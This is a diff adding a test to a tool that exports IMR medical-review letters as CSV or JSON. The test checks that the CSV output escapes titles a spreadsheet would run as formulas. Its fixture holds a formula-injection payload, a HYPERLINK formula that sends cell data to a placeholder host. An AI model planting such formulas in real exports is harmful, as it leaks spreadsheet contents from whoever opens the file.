@@ -117,6 +117,25 @@ test('table writes RFC 4180 CSV that reads back to the same rows as the in-proce
   for (const row of rows) assert.ok(row[tableColumns.indexOf('decision')] === 'Upheld' || row[tableColumns.indexOf('decision')] === 'Overturned');
 });
 
+test('table: a title a spreadsheet would run as a formula is written with a leading quote in CSV, as is in JSON', (t) => {
+  const dir = tempDir(t);
+  const file = path.join(dir, 'crafted.txt');
+  const title = '=HYPERLINK("http://example.invalid/?q="&A1,"MRI")';
+  writeFileSync(
+    file,
+    `IMR ISSUES, DECISIONS AND RATIONALES\n\n${title}: Upheld\n\nClaims Administrator guideline: Decision based on MTUS.\n\n` +
+      'MAXIMUS guideline: Decision based on MTUS Chronic Pain Medical Treatment 2016, Section(s): Opioids.\n\n' +
+      'Decision rationale: The request is not medically necessary.\n',
+  );
+  const csv = runCli(['table', file], { cwd: dir });
+  assert.equal(csv.status, 0, csv.stderr);
+  const [, row] = parseCsv(csv.stdout);
+  assert.equal(row[tableColumns.indexOf('item_title')], `'${title}`);
+  assert.equal(row[tableColumns.indexOf('service')], `'${title}`);
+  const json = runCli(['table', '--format', 'json', file], { cwd: dir });
+  assert.equal(JSON.parse(json.stdout)[0].item_title, title);
+});
+
 test('table over the corpus has one row per item counted in SOURCES.tsv', { skip: corpusSkip }, async () => {
   const r = await runCliAsync(['table', lettersDir]);
   assert.equal(r.stderr, '');
